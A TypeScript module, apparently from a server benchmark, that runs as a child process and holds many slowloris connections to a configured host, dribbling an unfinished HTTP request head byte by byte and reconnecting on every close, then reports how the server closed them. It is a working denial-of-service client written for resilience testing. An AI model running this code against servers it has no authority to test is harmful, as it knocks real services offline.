// A child process of scenario 10 (scenarios/slowloris.ts): holds slowloris connections, each
// sending a request head one byte at a time and never finishing it. A process of its own, so
// that its sockets count against its own open-files limit, and its work never delays the
// measured client in the bench's process.
import { connect, type Socket } from 'node:net';

export interface AttackOrder {
  host: string;
  port: number;
  connections: number;
  /** A byte every this many ms, drawn between the two at each byte. */
  byteEveryMs: [number, number];
}

/** A connection the server closed: when (epoch ms), after how many bytes, and its answer. */
export interface ServerClose {
  openedAt: number;
  closedAt: number;
  bytesSent: number;
  /** The answer's status code (`408`), or the socket error, or `none`. */
  answer: string;
}

export type AttackerMessage =
  | { type: 'held'; held: number }
  | { type: 'report'; opened: number; connectErrors: number; closes: ServerClose[] };

/** At most this many connects in flight: more overflow the server's accept backlog. */
const OPENING = 128;

function attack({ host, port, connections, byteEveryMs: [min, max] }: AttackOrder): void {
  const head = `GET /status?uuid=${crypto.randomUUID()} HTTP/1.1\r\nHost: ${host}:${port}\r\nAccept: text/event-stream\r\nX-Slowloris: `;
  const sockets = new Set<Socket>();
  const closes: ServerClose[] = [];
  let opened = 0;
  let connectErrors = 0;
  let stopping = false;

  const open = (): Promise<void> =>
    new Promise((resolve) => {
      if (stopping) return resolve();
      const socket = connect({ host, port });
      sockets.add(socket);
      let openedAt = 0;
      let sent = 0;
      let answer = '';
      let error = '';
      let timer: NodeJS.Timeout | undefined;
      const sendByte = (): void => {
        // The head, then an endless header value: never the blank line that would end it.
        socket.write(sent < head.length ? head[sent]! : 'a');
        sent++;
        timer = setTimeout(sendByte, min + Math.random() * (max - min));
      };
      socket.on('connect', () => {
        opened++;
        openedAt = Date.now();
        sendByte();
        resolve();
      });
      socket.on('data', (chunk: Buffer) => {
        answer ||= chunk.toString('latin1', 9, 12);
      });
      socket.on('error', (e: NodeJS.ErrnoException) => {
        error = e.code ?? e.message;
      });
      socket.on('close', () => {
        clearTimeout(timer);
        sockets.delete(socket);
        if (stopping) return;
        if (openedAt === 0) {
          // Refused or failed before connecting: tried again shortly, not in a tight loop.
          connectErrors++;
          resolve();
          setTimeout(() => void open(), 100);
          return;
        }
        closes.push({
          openedAt,
          closedAt: Date.now(),
          bytesSent: sent,
          answer: answer || error || 'none',
        });
        // A slowloris reconnects at once: the server keeps facing `connections` of them.
        void open();
      });
    });

  process.on('message', (message: { type: 'stop' }) => {
    if (message.type !== 'stop') return;
    stopping = true;
    for (const socket of sockets) socket.destroy();
    const report: AttackerMessage = { type: 'report', opened, connectErrors, closes };
    process.send!(report, () => process.disconnect());
  });

  void (async () => {
    let next = 0;
    const worker = async (): Promise<void> => {
      while (next < connections) {
        next++;
        await open();
      }
    };
    await Promise.all(Array.from({ length: Math.min(OPENING, connections) }, worker));
    const held: AttackerMessage = { type: 'held', held: sockets.size };
    process.send!(held);
  })();
}

process.once('message', (order: AttackOrder) => attack(order));
